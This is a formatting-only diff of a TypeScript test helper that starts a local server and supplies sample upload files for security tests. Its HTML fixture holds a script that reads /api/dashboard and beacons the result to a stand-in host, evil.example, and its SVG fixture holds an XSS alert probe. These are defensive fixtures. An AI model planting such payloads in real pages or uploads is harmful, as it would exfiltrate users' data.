@@ -22,7 +22,11 @@ export interface SecureStack {
   base: string;
   port: number;
   /** A request with full control of the headers (`Host` included), as an attacker would send it. */
-  raw(method: string, path: string, options?: { headers?: Record<string, string>; body?: string | Buffer; as?: string }): Promise<RawAnswer>;
+  raw(
+    method: string,
+    path: string,
+    options?: { headers?: Record<string, string>; body?: string | Buffer; as?: string },
+  ): Promise<RawAnswer>;
   /** JSON as a person of the demo trust (the dev identity header), or as nobody. */
   call(method: string, path: string, options?: { as?: string; body?: unknown; headers?: Record<string, string> }): Promise<RawAnswer>;
   stop(): Promise<void>;
@@ -32,9 +36,15 @@ export interface SecureStack {
  * The real local host (composeLocal, in-memory SQLite with the demo trust) with the settings a test
  * gives, on 127.0.0.1 and a free port.
  */
-export async function startSecureStack(env: Record<string, string> = {}, options: { at?: string; sso?: { jwks: JWTVerifyGetKey; issuer: string } } = {}): Promise<SecureStack> {
+export async function startSecureStack(
+  env: Record<string, string> = {},
+  options: { at?: string; sso?: { jwks: JWTVerifyGetKey; issuer: string } } = {},
+): Promise<SecureStack> {
   const config = loadConfig({ TRUST_DB: ':memory:', LOG_LEVEL: 'silent', ...env });
-  const local = await composeLocal(config, fixedClock(options.at ?? '2026-11-23T10:00:00Z'), { logger: pino({ level: 'silent' }), ...(options.sso ? { sso: options.sso } : {}) });
+  const local = await composeLocal(config, fixedClock(options.at ?? '2026-11-23T10:00:00Z'), {
+    logger: pino({ level: 'silent' }),
+    ...(options.sso ? { sso: options.sso } : {}),
+  });
   const server: Server = await new Promise((resolve) => {
     const s = local.app.listen(0, '127.0.0.1', () => resolve(s));
   });
@@ -71,7 +81,11 @@ export async function startSecureStack(env: Record<string, string> = {}, options
     port,
     raw,
     call: (method, path, o = {}) =>
-      raw(method, path, { ...(o.as ? { as: o.as } : {}), headers: { ...(o.body !== undefined ? { 'content-type': 'application/json' } : {}), ...o.headers }, ...(o.body !== undefined ? { body: JSON.stringify(o.body) } : {}) }),
+      raw(method, path, {
+        ...(o.as ? { as: o.as } : {}),
+        headers: { ...(o.body !== undefined ? { 'content-type': 'application/json' } : {}), ...o.headers },
+        ...(o.body !== undefined ? { body: JSON.stringify(o.body) } : {}),
+      }),
     async stop() {
       server.closeAllConnections();
       await new Promise<void>((resolve) => server.close(() => resolve()));
@@ -92,12 +106,24 @@ export function expectJsonProblem(answer: Pick<RawAnswer, 'headers' | 'text' | '
 /** Bytes of real documents of each kind, small enough for a test. */
 export const SAMPLE_FILES = {
   pdf: () => Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n'),
-  png: () => Buffer.from('89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082', 'hex'),
-  html: () => Buffer.from('<!doctype html><script>fetch("/api/dashboard").then(r=>r.text()).then(t=>navigator.sendBeacon("https://evil.example",t))</script>'),
+  png: () =>
+    Buffer.from(
+      '89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082',
+      'hex',
+    ),
+  html: () =>
+    Buffer.from(
+      '<!doctype html><script>fetch("/api/dashboard").then(r=>r.text()).then(t=>navigator.sendBeacon("https://evil.example",t))</script>',
+    ),
   svg: () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>'),
   text: () => Buffer.from('Minutes of the AIM, first draft\n'),
   /** A minimal Word document: a zip whose content types name the Word main part (what `file-type` looks for). */
-  docx: async () => zip({ '[Content_Types].xml': '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>', 'word/document.xml': '<w:document/>' }),
+  docx: async () =>
+    zip({
+      '[Content_Types].xml':
+        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
+      'word/document.xml': '<w:document/>',
+    }),
 };
 
 async function zip(entries: Record<string, string>): Promise<Buffer> {
